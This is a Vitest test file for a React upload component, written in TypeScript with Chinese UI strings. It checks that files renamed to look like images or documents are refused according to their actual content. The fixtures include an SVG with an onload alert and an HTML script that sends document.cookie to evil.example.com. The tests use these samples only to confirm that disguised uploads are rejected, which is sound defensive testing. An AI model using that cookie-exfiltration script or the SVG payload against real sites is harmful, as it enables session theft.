/**
 * Uploads are checked by content, not by name: each field takes the formats its accept names,
 * an SVG or a web page renamed as a picture is refused before anything is sent, and an accepted
 * file is stored under the extension of its content. Real storage code against MSW
 * (tests/unit/storage/storage-backend.ts), both the server-signed and the legacy-oss build.
 */
import { ConfigProvider, Message } from '@arco-design/web-react';
import { fireEvent, render, screen, waitFor } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { AttachmentsField, UploadButton, type UploadButtonProps } from '@/kit/upload';
import { storageBackend } from '../../unit/storage/storage-backend';

const PNG_BYTES = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52];
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>';
const HTML =
  '<!doctype html><html><body><script>fetch("https://evil.example.com/?c="+document.cookie)</script>';

/** A file as a browser hands it over: the name and type the user's system gave it. */
const file = (content: BlobPart, name: string, type: string) => new File([content], name, { type });
const png = (name: string, type = 'image/png') => file(new Uint8Array(PNG_BYTES), name, type);

function mount(props: Partial<UploadButtonProps> = {}) {
  const onChange = vi.fn();
  render(
    <ConfigProvider>
      <UploadButton
        folder="diploma"
        accept="image/*"
        label="上传证书"
        inputLabel="选择证书图片"
        onChange={onChange}
        {...props}
      />
    </ConfigProvider>,
  );
  const choose = (chosen: File) =>
    fireEvent.change(screen.getByLabelText('选择证书图片'), { target: { files: [chosen] } });
  return { choose, onChange };
}

afterEach(() => vi.unstubAllEnvs());

describe.each([
  ['signed by the server', undefined],
  ['legacy-oss build', 'legacy-oss'],
])('UploadButton checks the content (%s)', (_, mode) => {
  beforeEach(() => {
    if (mode) vi.stubEnv('VITE_STORAGE_MODE', mode);
  });

  it.each([
    ['an SVG named .png', () => file(SVG, '毕业证书.png', 'image/png')],
    ['an SVG as itself', () => file(SVG, '毕业证书.svg', 'image/svg+xml')],
    ['a web page named .jpg', () => file(HTML, '毕业证书.jpg', 'image/jpeg')],
  ])('refuses %s where an image is asked, sending nothing and offering no 重试', async (_, make) => {
    const seen = storageBackend();
    const { choose, onChange } = mount();
    const chosen = make();
    choose(chosen);
    expect(await screen.findByRole('alert')).toHaveTextContent(
      `「${chosen.name}」的内容不是 PNG、JPG、GIF、WEBP 文件，不能上传`,
    );
    expect(screen.queryByRole('button', { name: '重试' })).toBeNull();
    expect(seen).toEqual({ policies: [], legacy: [], posts: [] });
    expect(onChange).not.toHaveBeenCalled();
  });

  it('stores a real PNG named .jpg as a .png, with the PNG type', async () => {
    const seen = storageBackend();
    const { choose, onChange } = mount();
    choose(png('毕业证书扫描.jpg', 'image/jpeg'));
    await waitFor(() => expect(onChange).toHaveBeenCalledTimes(1));
    const [object] = onChange.mock.calls[0] as [{ key: string; name: string }];
    expect(object.key).toMatch(/^diploma\/\d{8}\/[0-9a-f]{16}\.png$/);
    expect(object.name).toBe('毕业证书扫描.jpg');
    const { fields } = seen.posts[0]!;
    expect(fields.key).toBe(object.key);
    expect(fields['Content-Type']).toBe('image/png');
    expect((fields.file as File).type).toBe('image/png');
    expect(seen.policies.map(({ body }) => body.contentType)).toEqual(mode ? [] : ['image/png']);
  });

  it('takes a Word file where documents are asked, and refuses a PNG named .docx', async () => {
    const seen = storageBackend();
    const { choose, onChange } = mount({ folder: 'thesis', accept: '.doc,.docx,.pdf,.zip' });
    // a .docx is a zip whose parts are under word/
    const docx = new Uint8Array([
      0x50,
      0x4b,
      0x03,
      0x04,
      ...new TextEncoder().encode('....word/document.xml'),
    ]);
    choose(file(docx, '开题报告.docx', ''));
    await waitFor(() => expect(onChange).toHaveBeenCalledTimes(1));
    expect(seen.posts[0]!.fields['Content-Type']).toBe(
      'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    );
    choose(png('开题报告.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'));
    expect(await screen.findByRole('alert')).toHaveTextContent(
      '「开题报告.docx」的内容不是 DOC、DOCX、PDF、ZIP 文件，不能上传',
    );
    expect(seen.posts).toHaveLength(1);
  });
});

describe('AttachmentsField checks the content against its accept', () => {
  it('refuses a web page named .pdf and sends a PNG named .jpg as .png', async () => {
    Message.clear();
    const sent: File[] = [];
    const send = (chosen: File) => {
      sent.push(chosen);
      return Promise.resolve({
        name: chosen.name,
        url: `https://files.example.edu.cn/notice/${chosen.name}`,
      });
    };
    const onChange = vi.fn();
    const { container } = render(
      <ConfigProvider>
        <AttachmentsField
          accept=".pdf,.doc,.docx,.xls,.xlsx,.jpg,.png"
          maxCount={5}
          refuse={() => undefined}
          send={send}
          onChange={onChange}
        />
      </ConfigProvider>,
    );
    const input = container.querySelector('input[type="file"]')!;
    fireEvent.change(input, { target: { files: [file(HTML, '考场安排.pdf', 'application/pdf')] } });
    expect(
      await screen.findByText(/「考场安排.pdf」的内容不是 PDF、DOC、DOCX、XLS、XLSX、JPG、PNG 文件/),
    ).toBeInTheDocument();
    fireEvent.change(input, { target: { files: [png('考场平面图.jpg', 'image/jpeg')] } });
    await waitFor(() => expect(sent).toHaveLength(1));
    expect(sent[0]!.name).toBe('考场平面图.png');
    expect(sent[0]!.type).toBe('image/png');
  });
});
